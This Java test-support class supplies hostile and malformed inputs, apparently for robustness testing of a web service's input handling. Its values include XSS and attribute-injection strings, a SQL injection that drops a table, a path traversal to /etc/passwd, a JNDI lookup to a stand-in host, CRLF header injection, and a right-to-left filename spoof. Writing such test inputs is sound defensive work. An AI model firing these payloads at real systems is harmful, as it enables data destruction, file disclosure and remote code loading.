package jp.noroshi.hub.hostile;

import java.util.LinkedHashMap;
import java.util.Map;

/// What to put where a harmless value is expected.
final class HostileValues {
  /// Stands in every text that might be taken, to be looked for in pages afterwards.
  static final String SCRIPT = "<script>alert('zq7')</script>";

  static final String OVERRIDE = "zq7\u202Egpj.exe";

  private HostileValues() {}

  /// Texts, by what is wrong with them.
  static Map<String, String> texts() {
    var texts = new LinkedHashMap<String, String>();
    texts.put("nothing", "");
    texts.put("spaces", " \t\u3000");
    texts.put("NUL", "zq7\u0000zq7");
    texts.put("other controls", "zq7\u0007\u001B[31m\u0085");
    texts.put("line breaks", "zq7\r\nSet-Cookie: zq7=1\r\n\r\nzq7");
    texts.put("right-to-left override", OVERRIDE);
    texts.put("bidi isolates", "zq7\u2066abc\u2069\u200F");
    texts.put("zero width", "z\u200Bq\u2060\uFEFF7");
    texts.put("script", SCRIPT);
    texts.put("attribute", "\" onmouseover=\"alert('zq7')\" x='");
    texts.put("SQL", "zq7'; drop table party.person; --");
    texts.put("path", "../../../../etc/passwd");
    texts.put("template", "${jndi:ldap://192.0.2.1/zq7} #{7*7} {0}");
    texts.put("huge number", "9".repeat(400));
    texts.put("exponent", "1e999999999");
    texts.put("below zero", "-1");
    texts.put("long", "長".repeat(20_000));
    return texts;
  }

  /// Values of JSON, written out: the texts, and what is no text.
  static Map<String, String> json() {
    var values = new LinkedHashMap<String, String>();
    texts().forEach((what, text) -> values.put(what, quoted(text)));
    values.put("half a surrogate pair", "\"zq7\\ud800\"");
    values.put("null", "null");
    values.put("true", "true");
    values.put("number", "7");
    values.put("huge integer", "1" + "0".repeat(90));
    values.put("number too long", "1" + "0".repeat(5_000));
    values.put("huge exponent", "1e400");
    values.put("list", "[1,\"zq7\",null,[]]");
    values.put("object", "{\"zq7\":{\"$where\":\"1\"}}");
    values.put("depth", "[".repeat(200) + "]".repeat(200));
    return values;
  }

  private static String quoted(String text) {
    var json = new StringBuilder("\"");
    text.chars()
        .forEach(c -> {
          if (c < ' ' || c == '"' || c == '\\') {
            json.append("\\u%04x".formatted(c));
          } else {
            json.append((char) c);
          }
        });
    return json.append('"').toString();
  }
}
